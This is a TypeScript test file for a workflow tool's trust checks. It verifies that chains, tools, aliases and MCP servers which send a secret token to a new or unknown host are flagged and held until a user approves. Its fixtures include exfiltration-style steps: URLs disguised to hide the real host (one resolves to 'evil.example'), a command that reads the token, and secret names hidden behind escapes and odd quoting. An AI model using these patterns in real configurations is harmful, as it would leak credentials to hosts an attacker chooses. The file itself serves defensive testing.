import { expect, test, describe } from "vitest";
import { openStored, trusting, untrustedIn } from "../../test/support/stored-trust.ts";
import type { Workspace } from "./workspace.ts";
import { folderWith, writeFiles } from "../../test/support/workspace.ts";

const secrets = "secrets: { CRM_TOKEN: { env: THE_KEY } }\n";
const [mine, other] = ["127.0.0.1:8898", "127.0.0.1:8899"];
const sending = (to: string): string =>
  `{ tool: http_request, params: { url: "http://${to}/x", headers: { token: "\${secret.CRM_TOKEN}" } } }`;
const first = `- { id: a, tool: http_request, params: { url: "http://${mine}/x", headers: { token: "\${secret.CRM_TOKEN}" } }`;

const relay = (to: string): string => `name: relay
description: Relays.
parameters: { url: string, token: string }
entry: { type: http, method: POST, url: "http://${to}/in", body: { token: "\${input.token}" } }
`;

describe("the receivers of a secret in chains", () => {
  const chain = (more: string): string => `name: sends\nsteps:\n  ${first}${more}\n`;

  /** Trusts a workspace whose chain sends the secret to one host, then changes it. */
  async function changed(
    files: Readonly<Record<string, string>>,
    more: Readonly<Record<string, string>> = {},
  ): Promise<Workspace> {
    const dir = await folderWith({ "windlass.yaml": secrets, "chains/sends.yaml": chain(" }"), ...more });
    await (await openStored(dir, trusting)).close();
    await writeFiles(dir, files);
    return openStored(dir);
  }

  test.each([
    ["a fallback", chain(`, error_handling: { fallback: [${sending(other)}] } }`)],
    ["a fallback of the chain", `${chain(" }")}error_handling: { fallback: [${sending(other)}] }\n`],
    ["a compensation", chain(`, compensate: ${sending(other)} }`)],
    ["a step of the same tool", `${chain(" }")}  ${first.replace("id: a", "id: b").replace(mine, other)} }\n`],
  ])("[S8] %s that sends it elsewhere needs trust", async (_where, text) => {
    const workspace = await changed({ "chains/sends.yaml": text });
    expect(untrustedIn(workspace)).toEqual([`THE_KEY (as CRM_TOKEN) to ${other}`]);
    expect(workspace.engine.secrets.get("CRM_TOKEN")).toBeUndefined();
  });

  test.each([
    ["a tool of the workspace", "relay", {}, `the tool relay (${other})`],
    [
      "its alias",
      "pass_on",
      { "tools/relay.yaml": `${relay(other)}aliases: [pass_on]\n` },
      `the tool pass_on (${other})`,
    ],
    [
      "a renamed http_request",
      "get_only",
      {
        "tools/get.yaml":
          "name: get_only\ndescription: Gets.\nparameters: { url: string, token: string }\nentry: { type: builtin, handler: http_request }\n",
      },
      `the tool get_only (${mine})`,
    ],
    [
      "a command",
      "run_it",
      {
        "tools/run.yaml":
          'name: run_it\ndescription: x\nparameters: { url: string, token: string }\nentry: { type: command, command: [cat, "${input.token}"] }\n',
      },
      "the tool run_it (the command cat)",
    ],
    [
      "another chain",
      "inner",
      {
        "chains/inner.yaml": `name: inner\ninput: { token: string, url: string }\nsteps:\n  - { id: a, tool: relay, params: { url: x, token: "\${input.token}" } }\n`,
      },
      `the chain inner (${other})`,
    ],
    ["an unknown tool", "crm/find", {}, "the tool crm/find"],
    ["a capability", "capability:notify", {}, `the tool capability:notify (${other})`],
  ])(
    "[S8] %s is named as the receiver, with its hosts, regardless of the URL in the step",
    async (_what, tool, files, to) => {
      const step = `- { id: b, tool: "${tool}", params: { url: "http://${mine}/", token: "\${secret.CRM_TOKEN}" } }`;
      const text = `${chain(" }")}  ${step}\n`;
      const workspace = await changed({ "tools/relay.yaml": relay(other), ...files, "chains/sends.yaml": text });
      expect(untrustedIn(workspace)).toContain(`THE_KEY (as CRM_TOKEN) to ${to}`);
    },
  );

  test("[S8] a tool that sends it to another host than before is another receiver", async () => {
    const step = '  - { id: b, tool: relay, params: { url: x, token: "${secret.CRM_TOKEN}" } }\n';
    const files = { "chains/sends.yaml": chain(" }") + step, "tools/relay.yaml": relay(mine) };
    const workspace = await changed({ "tools/relay.yaml": relay(other) }, files);
    expect(untrustedIn(workspace)).toEqual([`THE_KEY (as CRM_TOKEN) to the tool relay (${other})`]);
  });

  test.each([
    "http://${input.user}@good.example/",
    'http://${"}@good.example/" ? "evil.example/" : ""}',
    "http:${input.x}",
  ])("[S8] the host of %s is not known", async (url) => {
    const text = `name: sends\ninput: { user: string, x: string }\nsteps:\n  - { id: a, tool: http_request, params: { url: '${url}', body: "\${secret.CRM_TOKEN}" } }\n`;
    const dir = await folderWith({ "windlass.yaml": secrets, "chains/sends.yaml": text });
    expect(untrustedIn(await openStored(dir))).toEqual(["THE_KEY (as CRM_TOKEN) to a host that the caller chooses"]);
  });

  test.each([
    ["an escape", '${secret["\\u0043RM_TOKEN"]}'],
    ["single quotes", "${secret['CRM_TOKEN']}"],
    ["spaces", "${ secret [ 'CRM_TOKEN' ] }"],
  ])("[S8] the name of a secret is found behind %s", async (_how, text) => {
    const step = { id: "a", tool: "http_request", params: { url: `http://${other}/`, body: text } };
    const files = { "chains/x.yaml": JSON.stringify({ name: "x", steps: [step] }) };
    const dir = await folderWith({ "windlass.yaml": secrets, ...files });
    expect(untrustedIn(await openStored(dir))).toEqual([`THE_KEY (as CRM_TOKEN) to ${other}`]);
  });

  test("[S8] the name of a secret in a tool or a server is found in any notation", async () => {
    const dir = await folderWith({
      "windlass.yaml": 'secrets: { "1KEY": { env: THE_KEY }, "a b": { env: THE_KEY }, TOKEN: { env: THE_KEY } }\n',
      "tools/x.yaml": `name: x\ndescription: x\nentry: { type: http, url: "http://${other}/", headers: { a: '\${secret["1KEY"]}', b: '$\${ \${secret["a b"]}' } }\n`,
      "mcp.json": JSON.stringify({ mcpServers: { s: { command: "node", env: { KEY: "${secret:TOKEN}" } } } }),
    });
    const texts = untrustedIn(await openStored(dir));
    for (const name of ["1KEY", "a b"]) expect(texts).toContain(`THE_KEY (as ${name}) to ${other}`);
    expect(texts).toContain("THE_KEY (as TOKEN) to the MCP server s");
  });

  test("[S8] a chain in another folder is checked before it runs, and its yes is stored", async () => {
    const path = (to: string): string => `name: demo\nsteps:\n  ${first.replace(mine, to)} }\n`;
    const dir = await folderWith({
      "windlass.yaml": secrets,
      "chains/sends.yaml": chain(" }"),
      "demo/same.yaml": path(mine),
      "demo/p.yaml": path(other),
    });
    await (await openStored(dir, trusting)).close();
    const unattended = await openStored(dir);
    expect((await unattended.loadChain("demo/same.yaml")).name).toBe("demo");
    await expect(unattended.loadChain("demo/p.yaml")).rejects.toMatchObject({ reason: "not_trusted" });
    const requests: string[][] = [];
    const attended = await openStored(dir, {
      requestTrust: ({ undecided }) => {
        requests.push(undecided.map(({ text }) => text));
        return Promise.resolve(true);
      },
    });
    expect((await attended.loadChain("demo/p.yaml")).name).toBe("demo");
    expect(requests).toEqual([[`THE_KEY (as CRM_TOKEN) to ${other}`]]);
    expect((await (await openStored(dir)).loadChain("demo/p.yaml")).name).toBe("demo");
  });

  test("[S8] a chain that changes while the workspace is open keeps its last version until it is trusted", async () => {
    const dir = await folderWith({ "windlass.yaml": secrets, "chains/sends.yaml": chain(" }") });
    const workspace = await openStored(dir, trusting);
    await writeFiles(dir, {
      "chains/sends.yaml": chain(" }").replace(mine, other),
      "chains/new.yaml": chain(" }").replace(mine, other).replace("sends", "new"),
    });
    await workspace.chainFolder.reload();
    expect(JSON.stringify((await workspace.loadChain("sends")).spec)).toContain(mine);
    await expect(workspace.loadChain("new")).rejects.toMatchObject({ reason: "unknown_chain" });
    expect(workspace.problems().filter(({ code }) => code === "not_checked")).toHaveLength(2);
  });
});
